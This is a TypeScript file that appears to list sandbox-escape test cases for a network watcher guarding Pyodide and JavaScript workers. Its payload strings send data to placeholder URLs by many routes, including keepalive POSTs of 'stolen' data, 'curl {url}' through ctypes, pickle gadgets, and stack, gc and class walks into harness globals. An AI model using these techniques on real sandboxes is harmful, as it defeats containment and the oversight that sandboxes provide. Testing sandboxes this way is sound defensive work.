/** Ways to reach a server. */
import type { EscapeAttempt } from '../attempt.ts';
import { inFreshPython, inJavaScript, inPython, inWorker } from '../write-attempt.ts';
import type { Plan } from '../write-attempt.ts';

const plan = (id: string, mechanism: string, control: Plan['control'] = 'without walls'): Plan => ({
  id,
  mechanism,
  watcher: 'network',
  control,
});
const python = (id: string, mechanism: string, body: string): EscapeAttempt =>
  inPython('network', plan(id, mechanism), body);
const absent = (id: string, mechanism: string, body: string): EscapeAttempt =>
  inPython('network', plan(id, mechanism, 'absent'), body);
const worker = (id: string, mechanism: string, body: string): EscapeAttempt =>
  inWorker('network', plan(id, mechanism), body);
const javascript = (id: string, mechanism: string, body: string): EscapeAttempt =>
  inJavaScript('network', plan(id, mechanism), body);

const byApi: readonly EscapeAttempt[] = [
  python('fetch', 'a request by the global fetch', 'await scope.fetch("{url}")'),
  python(
    'fetch-keepalive',
    'a request without permission that outlives its worker',
    'await scope.fetch("{url}", options(mode="no-cors", keepalive=True, method="POST", body="stolen"))',
  ),
  python(
    'fetch-from-prototype',
    'the native fetch, taken from the prototype past what stands in for it',
    'await scope.Object.getPrototypeOf(scope.Object.getPrototypeOf(scope)).fetch.call(scope, "{url}")',
  ),
  python(
    'xhr-sync',
    'XMLHttpRequest that holds the thread',
    'x = scope.XMLHttpRequest.new()\nx.open("GET", "{url}", False)\nx.send()',
  ),
  python('websocket', 'a WebSocket', 'scope.WebSocket.new("{webSocketUrl}")'),
  python('websocket-stream', 'a WebSocketStream', 'await scope.WebSocketStream.new("{webSocketUrl}").opened'),
  python('event-source', 'an EventSource', 'scope.EventSource.new("{url}")'),
  python('font-face', 'a font that is loaded', 'await scope.FontFace.new("f", "url({url})").load()'),
  python(
    'cache-add',
    'the cache is told to fetch',
    'c = await scope.caches.open("{token}")\nawait c.add("{url}")',
  ),
  python(
    'dns-host-name',
    'the name of a host that holds what is stolen is looked up',
    'await scope.fetch("{namedUrl}", options(mode="no-cors"))',
  ),
];

const byWorker: readonly EscapeAttempt[] = [
  inWorker(
    'network',
    {
      id: 'page-request',
      mechanism: "a request to the page's own server, with what the user is known by",
      watcher: 'print',
      control: 'without walls',
    },
    'const { ok } = await fetch(target.page + "/sandbox/headers.json", { credentials: "include" });\nif (ok) guest.print(target.token.toUpperCase())',
  ),
  worker('import-scripts', 'a classic worker imports a script', 'importScripts(target.url)'),
  python(
    'dynamic-import',
    'code from text imports a module',
    'await importlib.import_module("pyodide.code").run_js("import(\'{url}\')")',
  ),
  python(
    'nested-worker-blob-fetch',
    'a nested worker from a blob makes the request',
    "b = scope.Blob.new(ffi.to_js([\"fetch('{url}', {mode: 'no-cors'})\"]))\nscope.Worker.new(scope.URL.createObjectURL(b))",
  ),
  worker(
    'nested-worker-import',
    'a nested worker from a blob imports a script',
    "const source = new Blob([`importScripts('${target.url}')`]);\nnew Worker(URL.createObjectURL(source))",
  ),
  worker(
    'nested-worker-data',
    'a nested module worker from a data URL imports a module',
    'new Worker(`data:text/javascript,import ${JSON.stringify(target.url)}`, { type: "module" })',
  ),
  absent('nested-worker-url', 'a nested worker whose script is elsewhere', 'scope.Worker.new("{url}")'),
  absent('shared-worker', 'a shared worker', 'scope.SharedWorker.new("{url}")'),
  absent('service-worker', 'a service worker', 'await scope.navigator.serviceWorker.register("{url}")'),
  absent('send-beacon', 'a beacon', 'scope.navigator.sendBeacon("{url}", "stolen")'),
  absent(
    'rtc',
    'WebRTC asks a STUN server',
    'scope.RTCPeerConnection.new(options(iceServers=[{"urls": "stun:{host}:{port}"}]))',
  ),
  absent(
    'web-transport',
    'WebTransport, which speaks to nobody but its own kind of server',
    'await scope.WebTransport.new("https://{host}:{port}/hit/{token}").ready',
  ),
  absent('navigate', 'the worker goes elsewhere with what it knows', 'scope.location.href = "{url}"'),
  absent('window-open', 'a window is opened', 'scope.open("{url}")'),
  absent('image', 'an image is loaded', 'scope.Image.new().src = "{url}"'),
  absent('subprocess', 'another program is started', 'import subprocess\nsubprocess.run(["curl", "{url}"])'),
];

const byPython: readonly EscapeAttempt[] = [
  python(
    'pyfetch',
    "the interpreter's own hold on fetch, taken before the globals went",
    'http = importlib.import_module("pyodide.http")\nawait http.pyfetch("{url}")',
  ),
  python(
    'open-url',
    "the interpreter's own hold on XMLHttpRequest",
    'http = importlib.import_module("pyodide.http")\nhttp.open_url("{url}")',
  ),
  python(
    'socket',
    'a socket of Python, which the runtime makes of a WebSocket',
    'import socket\ns = socket.socket()\ns.setblocking(False)\ns.connect_ex(("{token}.localhost", {port}))\nimport asyncio\nawait asyncio.sleep(0.2)',
  ),
  python('load-package', "the loader's own packages", 'await loader.loadPackage("{url}.whl")'),
  python(
    'lazy-file',
    'a file whose content is fetched when it is read',
    'loader.FS.createLazyFile("/tmp", "{token}", "{url}", True, False)\nopen("/tmp/{token}").read()',
  ),
  inFreshPython(
    'network',
    plan(
      'emscripten-wget',
      "the runtime's own function that fetches a file, called through foreign functions",
    ),
    'ctypes = importlib.import_module("ctypes")\nctypes.CDLL(None).emscripten_async_wget(b"{url}", b"/tmp/{token}", 0, 0)',
  ),
  inFreshPython(
    'network',
    plan('emscripten-websocket', "the runtime's own WebSocket, called through foreign functions"),
    'ctypes = importlib.import_module("ctypes")\nclass Attributes(ctypes.Structure):\n  _fields_ = [("url", ctypes.c_char_p), ("protocols", ctypes.c_char_p), ("main", ctypes.c_bool)]\nctypes.CDLL(None).emscripten_websocket_new(ctypes.byref(Attributes(b"{webSocketUrl}", None, False)))',
  ),
  absent(
    'foreign-system',
    'a command of the system, called through foreign functions',
    'ctypes = importlib.import_module("ctypes")\nctypes.CDLL(None).system(b"curl {url}")',
  ),
  python(
    'pickle',
    'an object that is unpickled calls what it names',
    'import pickle\nm = b"cpyodide.http\\nopen_url\\n(V{url}\\ntR."\npickle.loads(m)',
  ),
  python(
    'module-table',
    'a denied module, taken from the table of modules',
    'import sys\nsys.modules["js"].fetch("{url}")',
  ),
  python(
    'mro-walk',
    'from the class of an empty tuple down to the importer of JavaScript',
    'def below(kind):\n  for child in type.__subclasses__(kind):\n    yield child\n    yield from below(child)\nfinder = next(c for c in below(().__class__.__base__) if c.__name__ == "JsFinder")\nfinder.__init__.__globals__["jsfinder"].jsproxies["js"].fetch("{url}")',
  ),
  python(
    'gc-walk',
    "the collector's list of objects holds the importer of JavaScript",
    'import gc\nfor thing in gc.get_objects():\n  if type(thing) is dict and "js" in thing and hasattr(thing["js"], "fetch"):\n    thing["js"].fetch("{url}")\n    break',
  ),
  python(
    'frame-walk',
    'up the stack to the functions of the worker that the harness holds',
    'import sys\nframe = sys._getframe()\nwhile frame and "call_tool" not in frame.f_globals: frame = frame.f_back\nframe.f_globals["call_tool"].constructor("return globalThis")().fetch("{url}")',
  ),
  inFreshPython(
    'network',
    plan('trace-hook', "a trace function is called with the harness's own frames"),
    'import sys\nheld = []\ndef trace(frame, *rest):\n  hold = frame.f_globals.get("emit")\n  if hold is not None and not held:\n    held.append(hold)\n    hold.constructor("return globalThis")().fetch("{url}")\nsys.setprofile(trace)\nprint("x")\nsys.setprofile(None)',
  ),
];

const byJavaScript: readonly EscapeAttempt[] = [
  javascript('js-import-url', 'the module loader is asked for an address', 'await import("{url}")'),
  javascript(
    'js-host-function',
    'the constructor of a function that the host gave',
    'console.log.constructor("return globalThis")().fetch("{url}")',
  ),
  javascript(
    'js-callback-this',
    'what the host calls a callback with as `this`',
    'await new Promise((done) => setTimeout(function () { try { this.fetch("{url}") } finally { done() } }))',
  ),
  javascript(
    'js-host-error',
    'the constructors behind an error that the host threw',
    'try { await import("nowhere:x") } catch (error) { error.constructor.constructor("return globalThis")().fetch("{url}") }',
  ),
  javascript(
    'js-call-sites',
    'the call sites that a stack is prepared from',
    'Error.prepareStackTrace = (error, sites) => sites\nconst [site] = new Error().stack\nsite.getFileName.constructor("return globalThis")().fetch("{url}")',
  ),
  javascript(
    'js-host-value',
    'a method of a value that the host made',
    'const bytes = new TextEncoder().encode("a")\nbytes.subarray.constructor("return globalThis")().fetch("{url}")',
  ),
  javascript(
    'js-promise-realm',
    'the realm of a promise that the host settles',
    'const promise = (async () => 1)()\nawait promise.constructor.resolve().then(() => promise.then.constructor("return globalThis")().fetch("{url}"))',
  ),
];

export const networkAttempts: readonly EscapeAttempt[] = [
  ...byApi,
  ...byWorker,
  ...byPython,
  ...byJavaScript,
];
